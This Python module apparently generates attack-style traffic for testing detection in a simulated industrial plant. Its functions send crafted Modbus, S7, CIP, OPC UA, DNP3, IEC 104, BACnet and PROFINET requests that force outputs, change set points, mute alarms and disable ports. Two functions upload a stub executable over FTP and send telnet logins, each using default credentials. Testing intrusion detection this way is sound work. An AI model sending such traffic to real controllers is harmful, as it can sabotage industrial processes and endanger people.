"""Controllers by what their own protocols offer and plants seldom use: muted alarms, forced values, records, files."""

from __future__ import annotations

import asyncio
import contextlib
import ftplib
import io
import struct
import time
import uuid
from datetime import UTC, datetime
from typing import TYPE_CHECKING, Final

from asyncua import Client, ua

from interlock.plant.machines import BY_NAME
from interlock.plant.protocols import cip, dnp3, iec104, modbus, s7comm
from proving.clients.asking import ask_cip, ask_opcua, ask_s7
from proving.clients.talk import Talk, tell

if TYPE_CHECKING:
    from collections.abc import Callable

_MODBUS: Final = 502
_BACNET: Final = 47808
_CONTEXT_MANAGER: Final = 34964
_INTERFACE: Final = uuid.UUID("dea00001-6c97-11d1-8271-00a02442df7d")


def level_raised(to: str) -> None:
    """Modbus: a set point of the panel's, once, far from where it was and within its range."""
    with Talk(to, _MODBUS) as talk:
        talk.say(modbus.adu(1, 1, modbus.write_register(0, 2450)), 1.0)


def drive_from_panel(to: str) -> None:
    """Modbus: the panel tells the pump's drive its speed, which only the controller does."""
    with Talk(to, _MODBUS) as talk:
        talk.say(modbus.adu(1, 1, modbus.write_register(0, 0)), 4.0)


def canopen_asked(to: str) -> None:
    """Modbus: CANopen behind it asked and written (function 43, type 13)."""
    with Talk(to, _MODBUS) as talk:
        for number, option in enumerate((0x00, 0x00, 0x40, 0x40)):
            body = bytes((43, 13, option, 0, 1, 0x60, 0x40, number, 0, 0, 0, 2, 0, 6))
            talk.say(modbus.adu(number + 1, 1, body), 0.5)


def map_slowly(to: str) -> None:
    """Modbus: the historian reads one register in a hundred, one every four seconds."""
    with Talk(to, _MODBUS, 0.3) as talk:
        for number in range(14):
            talk.say(modbus.adu(number + 1, 1, modbus.read(3, 100 * number, 1)), 3.7)


def reads_poured(to: str) -> None:
    """Modbus: the panel's reading, as fast as it goes."""
    with Talk(to, _MODBUS) as talk:
        for number in range(4000):
            talk.say(modbus.adu(number + 1 & 0xFFFF, 1, modbus.read(4, 0, 5)), 0.0)


def words_of_umas(to: str) -> None:
    """UMAS: variables read and written by the panel (0x22, 0x23), nothing reserved."""
    asked = [b"\x5a\x00\x02", b"\x5a\x00\x22\x01\x02\x00\x00\x01\x00\x00\x00\x00\x00\x00"]
    asked += [b"\x5a\x00\x23" + bytes((0, 0, 0, n, 1, 2, 0, 0, 1, 0, 0, 0, 0, 1, 1, n)) for n in range(4)]
    with Talk(to, _MODBUS) as talk:
        for number, pdu in enumerate(asked):
            talk.say(modbus.adu(number + 1, 1, pdu), 0.7)


def _userdata(reference: int, group: int, subfunction: int, data: bytes) -> bytes:
    parameter = bytes((0, 1, 0x12, 4, 0x11, 0x40 | group, subfunction, 0))
    return s7comm.job(reference, parameter, data, s7comm.USERDATA)


def _octets(content: bytes) -> bytes:
    return struct.pack("!BBH", 0xFF, 9, len(content)) + content


def cyclic_asked(to: str) -> None:
    """S7: values subscribed to (cyclic services), by the historian."""
    item = b"\x12\x0a\x10\x02\x00\x18\x00\x01\x84\x00\x00\x00"
    ask_s7(to, [_userdata(n, 2, 1, _octets(b"\x00\x01\x01\x0a" + item)) for n in range(2, 5)], 2.0)


def outputs_forced(to: str) -> None:
    """S7: outputs forced by the programming services (force, replaced, ended)."""
    content = b"\x00\x14\x00\x04\x00\x00\x00\x00\x00\x01\x00\x00\x00\x01\x00\x01\x00\x20\x00\x01\x00\x00\x01"
    ask_s7(to, [_userdata(n, 1, sub, _octets(content)) for n, sub in ((2, 0x08), (3, 0x09), (4, 0x10))], 1.5)


def alarms_muted(to: str) -> None:
    """S7: the panel's messages switched off and alarms acknowledged in its name (CPU services)."""
    off = b"\x00\x00HmiRtm  \x00\x00"
    locked = b"\x00\x01\x12\x08\x1a\x00\x09\x00\x00\x00\x00\x01"
    ask_s7(
        to,
        [
            _userdata(2, 4, 2, _octets(off)),
            _userdata(3, 4, 7, _octets(locked)),
            _userdata(4, 4, 0x0B, _octets(locked)),
        ],
        1.5,
    )


def program_read(to: str) -> None:
    """S7: the main block read by the engineering station, slowly and without an order."""
    start = b"\x1d\x00\x00\x00\x00\x00\x00\x00\x09_0800001A"
    more, end = b"\x1e\x00\x00\x00\x00\x00\x00\x07", b"\x1f\x00\x00\x00\x00\x00\x00\x07"
    ask_s7(to, [s7comm.job(n, parameter) for n, parameter in enumerate((start, more, end), 2)], 3.0)


def memory_compressed(to: str) -> None:
    """S7: the memory compressed, over and over (_GARB)."""
    parameter = b"\x28\x00\x00\x00\x00\x00\x00\xfd\x00\x00\x05_GARB"
    ask_s7(to, [s7comm.job(n, parameter) for n in range(2, 8)], 0.7)


def pressure_stepped(to: str) -> None:
    """S7: the boiler's set point, written by the panel once, near the end of its range."""
    item = b"\x12\x0a\x10\x08\x00\x01\x00\x01\x84" + (12 * 8).to_bytes(3, "big")
    ask_s7(to, [s7comm.job(2, b"\x05\x01" + item, struct.pack("!BBHf", 0, 7, 4, 8.9))], 1.0)


def templates_read(to: str) -> None:
    """CIP: names of tags and what structures are made of, by the historian."""
    symbols = cip.request(0x55, b"\x20\x6b\x25\x00\x00\x00", struct.pack("<HHH", 2, 1, 2))
    shape = cip.request(3, b"\x20\x6c\x25\x00\x83\x0f", struct.pack("<H4H", 4, 4, 5, 2, 1))
    read = cip.request(0x4C, b"\x20\x6c\x25\x00\x83\x0f", struct.pack("<IH", 0, 400))
    ask_cip(to, [symbols, shape, read, symbols], 1.5)


def connections_closed(to: str) -> None:
    """CIP: connections of others closed by numbers that are guessed (Forward Close)."""
    rows = [
        cip.request(0x4E, cip.object_path(6, 1), struct.pack("<BBHHIBB", 10, 14, n, 0x4D, 0x1337, 2, 0)
                    + b"\x20\x02\x24\x01")
        for n in range(30)
    ]  # fmt: skip
    ask_cip(to, rows, 0.1)


def bits_masked(to: str) -> None:
    """CIP: one bit of a tag changed by masks (Read Modify Write), by the panel."""
    data = struct.pack("<HII", 4, 0x00000000, 0xFFFFFFFE)
    ask_cip(to, [cip.request(0x4E, cip.tag_path(name), data) for name in ("Filler_Start", "Filler_Run")], 2.0)


def clock_of_controller(to: str) -> None:
    """CIP: a controller's clock set (Wall Clock Time)."""
    data = struct.pack("<HHQ", 1, 6, 1_000_000_000_000_000)
    ask_cip(to, [cip.request(4, cip.object_path(0x8B, 1), data)] * 2, 1.5)


def files_of_controller(to: str) -> None:
    """CIP: a controller's file asked for and fetched (File object), by the engineering station."""
    rows = [cip.request(0x4B, cip.object_path(0x37, 0xC8), b"\xff")]
    rows += [cip.request(0x4F, cip.object_path(0x37, 0xC8), bytes((n,))) for n in range(6)]
    ask_cip(to, rows, 0.6)


def port_disabled(to: str) -> None:
    """CIP: a controller's Ethernet port switched off (Ethernet Link, Admin State)."""
    ask_cip(to, [cip.request(0x10, cip.object_path(0xF6, 1, 9), b"\x02")], 2.0)


def history_read(to: str) -> None:
    """OPC UA: what was measured in the last weeks read by the historian."""

    async def do(client: Client) -> None:
        for name in ("Temperature", "TemperatureSetpoint", "Flow"):
            node = client.get_node(f"ns=2;s=Pasteuriser.{name}")
            with contextlib.suppress(Exception):
                await node.read_raw_history(
                    datetime(2026, 11, 1, tzinfo=UTC), datetime(2026, 11, 29, tzinfo=UTC)
                )
            await asyncio.sleep(1.0)

    ask_opcua(to, do)


def nodes_added(to: str) -> None:
    """OPC UA: nodes added and deleted."""

    async def do(client: Client) -> None:
        for number in range(3):
            with contextlib.suppress(Exception):
                await client.nodes.objects.add_variable(2, f"copy{number}", 1.0)
            with contextlib.suppress(Exception):
                await client.delete_nodes([client.get_node(f"ns=2;s=Pasteuriser.{number}")])
            await asyncio.sleep(0.7)

    ask_opcua(to, do)


def endpoints_asked(to: str) -> None:
    """OPC UA: servers and endpoints asked for, and nothing else."""

    async def do() -> None:
        client = Client(f"opc.tcp://{to}:4840", timeout=2)
        for ask in (client.connect_and_get_server_endpoints, client.connect_and_find_servers):
            with contextlib.suppress(Exception):
                await ask()
            await asyncio.sleep(1.0)

    asyncio.run(do())


def cooled_by_historian(to: str) -> None:
    """OPC UA: the historian, which only reads, writes a set point."""

    async def do(client: Client) -> None:
        node = client.get_node("ns=2;s=Pasteuriser.TemperatureSetpoint")
        await node.write_value(ua.DataValue(ua.Variant(70.0, ua.VariantType.Double)))

    ask_opcua(to, do)


def configuration_activated(to: str) -> None:
    """DNP3: configuration saved and another one activated (functions 19, 31)."""
    name = b"\x5b\x01" + struct.pack("<H", 8) + b"conf.xml"
    with Talk(to, 20000) as talk:
        talk.say(dnp3.request(1, 19), 1.0)
        talk.say(dnp3.request(2, 31, b"\x46\x08" + name), 1.0)
        talk.say(dnp3.request(3, 19), 1.0)


def users_changed(to: str) -> None:
    """DNP3: challenges answered wrongly, and a user's status changed (group 120)."""
    challenge = b"\x78\x02\x5b\x01" + struct.pack("<H", 22) + struct.pack("<IH", 1, 1) + bytes(16)
    status = b"\x78\x0a\x5b\x01" + struct.pack("<H", 14) + struct.pack("<BIBHHH", 4, 1, 1, 2, 0, 0) + bytes(2)
    with Talk(to, 20000) as talk:
        for number in range(4):
            talk.say(dnp3.request(number, 32, challenge), 0.5)
        talk.say(dnp3.request(5, 32, status), 1.0)


def links_reset(to: str) -> None:
    """DNP3: link states reset and asked for, over and over, by the panel."""
    with Talk(to, 20000, 0.1) as talk:
        for number in range(80):
            talk.say(dnp3.link_frame((0xC0, 0xC9)[number % 2], 10, 1, b""), 0.05)


def pump_slowly_toggled(to: str) -> None:
    """DNP3: the well's pump on and off by its usual master, a quarter of a minute each."""
    with Talk(to, 20000) as talk:
        for number in range(6):
            talk.say(dnp3.request(number, 5, dnp3.control(0, on=bool(number % 2))), 12.0)


def never_acknowledged(to: str) -> None:
    """IEC 104: data transfer started and everything asked for, and nothing acknowledged, by the historian."""
    master = iec104.Master(12)
    for _ in range(4):
        with Talk(to, 2404, 1.0) as talk:
            talk.say(iec104.u_frame(iec104.STARTDT))
            talk.say(master.command(100, 0, b"\x14"), 4.0)


def files_of_station(to: str) -> None:
    """IEC 104: a directory asked for and a file called and selected (F_SC_NA)."""
    master = iec104.Master(12)
    with Talk(to, 2404) as talk:
        talk.say(iec104.u_frame(iec104.STARTDT))
        for qualifier in (1, 2, 6, 2):
            talk.say(master.command(122, 0, struct.pack("<HBB", 1, 1, qualifier), cause=13), 1.0)


def bits_commanded(to: str) -> None:
    """IEC 104: 32 bits commanded at once (C_BO_NA), by the panel."""
    master = iec104.Master(12)
    with Talk(to, 2404) as talk:
        talk.say(iec104.u_frame(iec104.STARTDT))
        for address in (1, 100, 3000):
            talk.say(master.command(51, address, b"\xff\xff\xff\xff"), 1.0)


def _bacnet(*apdus: bytes) -> list[bytes]:
    return [struct.pack("!BBH", 0x81, 0x0A, 6 + len(apdu)) + b"\1\4" + apdu for apdu in apdus]


def _property(invoke: int, kind: int, number: int, value: bytes) -> bytes:
    head = bytes((0, 5, invoke, 15)) + b"\x0c" + struct.pack("!I", kind << 22 | 1)
    return head + bytes((0x19, number)) + b"\x3e" + value + b"\x3f"


def out_of_service(to: str) -> None:
    """BACnet: a sensor taken out of service and its value written, by the panel."""
    warm = b"\x44" + struct.pack("!f", 20.5)
    tell(to, _BACNET, *_bacnet(_property(1, 0, 81, b"\x91\1"), _property(2, 0, 85, warm)), pause_s=1.5)


def events_off(to: str) -> None:
    """BACnet: limits widened and events switched off (high limit, event enable), by the panel."""
    high = b"\x44" + struct.pack("!f", 1e6)
    rows = _bacnet(_property(1, 0, 45, high), _property(2, 0, 35, b"\x82\x05\x00"))
    tell(to, _BACNET, *rows, pause_s=1.5)


def told_privately(to: str) -> None:
    """BACnet: a maker's own transfer, confirmed and not (PrivateTransfer)."""
    body = b"\x09\x0f\x19\x07\x2e\x65\x10" + bytes(16) + b"\x2f"
    rows = _bacnet(bytes((0, 5, 9, 18)) + body, b"\x10\x04" + body)
    tell(to, _BACNET, *rows * 2, pause_s=1.0)


def _rpc(operation: int, body: bytes, number: int, endpoint: uuid.UUID) -> bytes:
    head = struct.pack("<BBBB3sB", 4, 0, 0x20, 0, b"\x10\0\0", 0) + endpoint.bytes_le + _INTERFACE.bytes_le
    activity = uuid.UUID(int=0x5A10 << 64 | 0xBEEF)
    rest = struct.pack("<IIIHHHHHBB", 0, 1, number, operation, 0xFFFF, 0xFFFF, len(body), 0, 0, 0)
    return head + activity.bytes_le + rest + body


def _record(slot: int, index: int, data: bytes) -> bytes:
    kind = 0x0008 if data else 0x0009
    block = struct.pack("!HHBB", kind, 60, 1, 0) + struct.pack("!H", 1) + bytes(16)
    block += struct.pack("!IHHHHI", 0, slot, 1, 0, index, len(data) or 1024) + bytes(24)
    block += data
    return struct.pack("<IIIII", 1024, len(block), 1024, 0, len(block)) + block


_STATION: Final = uuid.UUID("dea00000-6c97-11d1-8271-00010501002a")


def records_written(to: str) -> None:
    """PROFINET: parameters of a module written outside of any relation."""
    for number in range(3):
        tell(to, _CONTEXT_MANAGER, _rpc(3, _record(1, 1, b"\x00\x7f\xff\x00"), number, _STATION), pause_s=1.0)


def records_read(to: str) -> None:
    """PROFINET: what a station is, read outside of any relation (I&M 0 to 3, read implicit)."""
    for number, index in enumerate((0xAFF0, 0xAFF1, 0xAFF2, 0xF840)):
        tell(to, _CONTEXT_MANAGER, _rpc(5, _record(0, index, b""), number, _STATION), pause_s=0.7)


def safety_looks(to: str) -> None:
    """Modbus and S7: the safety controller, taken over, reads its neighbours."""
    with Talk(to, _MODBUS) as talk:
        for number in range(3):
            talk.say(modbus.adu(number + 1, 1, modbus.read(3, 0, 2)), 1.0)
    ask_s7(BY_NAME["plc-boiler"].ip, [s7comm.szl(2, 0x11)], 1.0)


def tool_left(to: str) -> None:
    """FTP: the panel leaves a program on a controller's file service, under an account that it guesses."""
    for user, password in (("anonymous", "a@b"), ("maintenance", "maintenance"), ("USER", "USERUSER")):
        with contextlib.suppress(Exception), ftplib.FTP(to, timeout=2) as talk:
            talk.login(user, password)
            talk.storbinary("STOR /conf/svc.exe", io.BytesIO(b"MZ\x90\x00" + bytes(4000)))
        time.sleep(0.5)


def switch_from_controller(to: str) -> None:
    """Telnet and SSH: a controller calls the switch."""
    for port in (23, 22, 23):
        with Talk(to, port, 1.0) as talk:
            talk.say(b"admin\r\nprivate\r\n", 1.0)


CLIENTS: Final[dict[str, Callable[[str], None]]] = {
    "level-raised": level_raised,
    "drive-from-panel": drive_from_panel,
    "canopen-asked": canopen_asked,
    "map-slowly": map_slowly,
    "reads-poured": reads_poured,
    "words-of-umas": words_of_umas,
    "cyclic-asked": cyclic_asked,
    "outputs-forced": outputs_forced,
    "alarms-muted": alarms_muted,
    "program-read": program_read,
    "memory-compressed": memory_compressed,
    "pressure-stepped": pressure_stepped,
    "templates-read": templates_read,
    "connections-closed": connections_closed,
    "bits-masked": bits_masked,
    "clock-of-controller": clock_of_controller,
    "files-of-controller": files_of_controller,
    "port-disabled": port_disabled,
    "history-read": history_read,
    "nodes-added": nodes_added,
    "endpoints-asked": endpoints_asked,
    "cooled-by-historian": cooled_by_historian,
    "configuration-activated": configuration_activated,
    "users-changed": users_changed,
    "links-reset": links_reset,
    "pump-slowly-toggled": pump_slowly_toggled,
    "never-acknowledged": never_acknowledged,
    "files-of-station": files_of_station,
    "bits-commanded": bits_commanded,
    "out-of-service": out_of_service,
    "events-off": events_off,
    "told-privately": told_privately,
    "records-written": records_written,
    "records-read": records_read,
    "safety-looks": safety_looks,
    "tool-left": tool_left,
    "switch-from-controller": switch_from_controller,
}
